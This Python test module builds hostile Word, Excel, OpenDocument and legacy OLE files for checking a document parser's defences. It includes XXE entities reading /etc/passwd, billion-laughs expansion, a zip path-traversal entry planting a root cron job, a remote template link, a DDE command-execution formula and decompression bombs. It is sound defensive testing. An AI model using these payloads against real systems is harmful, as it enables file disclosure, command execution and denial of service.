"""Word files, workbooks and zips that want more than to be read."""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

from tests.fetching import documents
from tests.fetching.hostile import bombs
from tests.fetching.hostile.case import READ, a

DTD = '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    "<!DOCTYPE w ["
    + "".join(f'<!ENTITY l{number} "{f"&l{number - 1};" * 10 if number else "ha"}">' for number in range(10))
    + "]>"
)
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def word(changed: Mapping[str, bytes | str | None]) -> bytes:
    """A real Word file with some of its files changed, or gone."""
    with zipfile.ZipFile(io.BytesIO(documents.word())) as archive:
        files: dict[str, bytes | str] = {name: archive.read(name) for name in archive.namelist()}
    files |= {name: content for name, content in changed.items() if content is not None}
    return documents.zipped({name: content for name, content in files.items() if changed.get(name, "") is not None})


def body(xml: str, before: str = "") -> bytes:
    """A Word file with this in its body."""
    return word({"word/document.xml": f'{before}<w:document xmlns:w="{W}"><w:body>{xml}</w:body></w:document>'})


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def book(changed: Mapping[str, str], rows: str = "") -> bytes:
    """A real workbook with some of its files changed."""
    return documents.zipped(documents.workbook_files({"S": rows or documents.rows(("a", 1))}) | dict(changed))


def amplified() -> bytes:
    """A workbook in which a hundred thousand cells name one string of 100,000 letters."""
    relations = documents.RELATIONS.format(
        f'<Relationship Id="rId1" Type="{documents.OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="rId2" Type="{documents.OFFICE}/sharedStrings" Target="sharedStrings.xml"/>'
    )
    strings = f'<sst xmlns="{documents.MAIN}"><si><t>{"x" * 100_000}</t></si></sst>'
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 100_001))
    return book({"xl/_rels/workbook.xml.rels": relations, "xl/sharedStrings.xml": strings}, rows)


def lied_of(size: int) -> bytes:
    """A Word file whose text is said to be so large, and is 300 MiB."""
    return bombs.archive(
        ("[Content_Types].xml", zlib.compress(b"<a/>", 9)[2:-4], 4), ("word/document.xml", bombs.deflated(300), size)
    )


def lzma_of_a_large_dictionary() -> bytes:
    """An entry packed with LZMA that asks for a dictionary of 4 GiB."""
    packed = struct.pack("<BBHBI", 9, 20, 5, 0x5D, 0xFFFFFFFF) + b"\0" * 64
    return bombs.archive(("word/document.xml", packed, 1024), method=zipfile.ZIP_LZMA)


def ole(*names: str, filler: bytes = b"\0") -> bytes:
    """An OLE file with streams of these names in its directory, and nothing that holds."""
    header = OLE + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
    header += struct.pack("<IIIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0, 0)
    header += b"\xff" * (512 - len(header))
    directory = b"".join(name.encode("utf-16-le").ljust(64, b"\0") + filler * 64 for name in names)
    return header + b"\0" * 512 + directory.ljust(2048, b"\0")


def looping_ole() -> bytes:
    """An OLE file whose chain of sectors goes round."""
    whole = bytearray(ole("Root Entry", "Workbook"))
    whole[512:1024] = struct.pack("<128I", *([2, 3, 2] + [1] * 125))
    return bytes(whole)


def cut(content: bytes, share: float = 0.5) -> bytes:
    """So much of it."""
    return content[: int(len(content) * share)]


WORDS = (
    a("word file cut in half", lambda: cut(documents.word()), "truncated", "ends in the middle"),
    a("word file that reads a file", lambda: body(paragraph("&x;"), DTD), "entities"),
    a("word file of laughs", lambda: body(paragraph("&l9;"), LAUGHS), "entities"),
    a(
        "word file of laughs in UTF-16",
        lambda: word({"word/document.xml": (LAUGHS + "<a>&l9;</a>").encode("utf-16")}),
        "entities",
    ),
    a(
        "word file that hides its laughs",
        lambda: body(paragraph("&l9;"), f"<!--{'x' * 300_000}-->" + LAUGHS),
        "entities",
    ),
    a(
        "word file with entities in its relations",
        lambda: word({"word/_rels/document.xml.rels": DTD + "<a>&x;</a>"}),
        "entities",
    ),
    a("word file whose text is no XML", lambda: word({"word/document.xml": b"\0\1\2"}), "broken"),
    a("word file without its types", lambda: word({"[Content_Types].xml": None}), "broken"),
    a("word file without its relations", lambda: word({"_rels/.rels": None}), "broken"),
    a("word file without its styles", lambda: word({"word/styles.xml": None}), "broken or read"),
    a("word file 100,000 deep", lambda: body("<w:sdt>" * 100_000 + "</w:sdt>" * 100_000), "broken"),
    a(
        "word file of tables in tables",
        lambda: body("<w:tbl><w:tr><w:tc>" * 80 + paragraph("x") + "</w:tc></w:tr></w:tbl>" * 80),
        "read or broken",
    ),
    a("word file of 6,000 paragraphs", lambda: body(paragraph("word") * 6_000), READ, "at most 5,000 rows"),
    a(
        "word file with a word of 12 million letters",
        lambda: body(paragraph("x" * 12_000_000)),
        "broken or read or bomb",
    ),
    a(
        "word file of a million attributes",
        lambda: body(f"<w:p {' '.join(f'a{n}=""' for n in range(300_000))}/>"),
        "broken or read or too-slow",
    ),
    a("word file that climbs out", lambda: word({"../../../etc/cron.d/x": "* * * * * root x"}), READ),
    a(
        "word file with a template from afar",
        lambda: word(
            {
                "word/_rels/settings.xml.rels": documents.RELATIONS.format(
                    f'<Relationship Id="rId1" Type="{documents.OFFICE}/attachedTemplate" '
                    'Target="http://192.0.2.1/t.dotm" TargetMode="External"/>'
                )
            }
        ),
        READ,
    ),
    a(
        "word file whose relations go round",
        lambda: word(
            {
                "word/_rels/styles.xml.rels": documents.RELATIONS.format(
                    f'<Relationship Id="rId1" Type="{documents.OFFICE}/x" Target="document.xml"/>'
                )
            }
        ),
        READ,
    ),
)


SHEETS = (
    a("workbook cut in half", lambda: cut(documents.workbook({"S": documents.rows(("a",))})), "truncated"),
    a("workbook of laughs", lambda: book({"xl/workbook.xml": LAUGHS + "<workbook>&l9;</workbook>"}), "entities"),
    a(
        "workbook that reads a file",
        lambda: book({"xl/worksheets/sheet1.xml": DTD + "<worksheet>&x;</worksheet>"}),
        "entities",
    ),
    a(
        "workbook with a cell at the end of the world",
        lambda: book(
            {}, '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
        ),
        "too-large or read or too-slow",
    ),
    a(
        "workbook with a cell beyond the end of the world",
        lambda: book({}, '<row r="4294967295"><c r="ZZZZZZ4294967295"><v>1</v></c></row>'),
        "broken or too-slow or too-large",
    ),
    a(
        "workbook with rows of no number",
        lambda: book({}, '<row r="-1"><c r="A-1"><v>1</v></c></row>'),
        "broken or read",
    ),
    a("workbook whose cells share one long string", amplified, "read or too-large or bomb"),
    a(
        "workbook whose strings are not there",
        lambda: book({}, '<row r="1"><c r="A1" t="s"><v>99999999</v></c></row>'),
        "broken or read",
    ),
    a("workbook of 6,000 rows", lambda: book({}, documents.rows(*[("a", 1)] * 6_000)), "read", "at most 5,000 rows"),
    a(
        "workbook whose sheet is not there",
        lambda: book({"xl/_rels/workbook.xml.rels": documents.RELATIONS.format("")}),
        "broken",
    ),
    a("workbook of no XML", lambda: book({"xl/workbook.xml": "<<<<"}), "broken or read"),
    a(
        "workbook of three thousand sheets",
        lambda: documents.workbook({f"S{n}": documents.rows(("a",)) for n in range(3000)}),
        "read or too-slow",
    ),
    a("workbook 100,000 deep", lambda: book({}, "<row>" * 100_000), "broken or read"),
    a("workbook with formulas to run", lambda: book({}, documents.rows(("=cmd|' /C calc'!A0",))), READ),
    a(
        "opendocument of endless equal cells",
        lambda: documents.calc(
            '<table:table-row table:number-rows-repeated="1048576"><table:table-cell '
            'table:number-columns-repeated="16384" office:value-type="string"><text:p>x</text:p></table:table-cell>'
            "</table:table-row>"
        ),
        "too-large or crashed or read or too-slow or broken",
    ),
    a(
        "opendocument of cells without number",
        lambda: documents.calc(
            '<table:table-row table:number-rows-repeated="99999999999999999999"><table:table-cell '
            'table:number-columns-repeated="-5"/></table:table-row>'
        ),
        "broken or read",
    ),
    a("old office file of a head alone", OLE, "wrong-type"),
    a("old office file of a text", lambda: ole("Root Entry", "WordDocument"), "wrong-type", "save it as DOCX"),
    a(
        "old office file that is locked",
        lambda: ole("Root Entry", "EncryptionInfo", "EncryptedPackage"),
        "encrypted",
        "password",
    ),
    a("old workbook with nothing in it", lambda: ole("Root Entry", "Workbook"), "broken or too-large"),
    a("old workbook that goes round", looping_ole, "broken or too-slow or too-large"),
    a("old workbook of noise", lambda: OLE + "Workbook".encode("utf-16-le") + bytes(range(256)) * 200, "broken"),
)
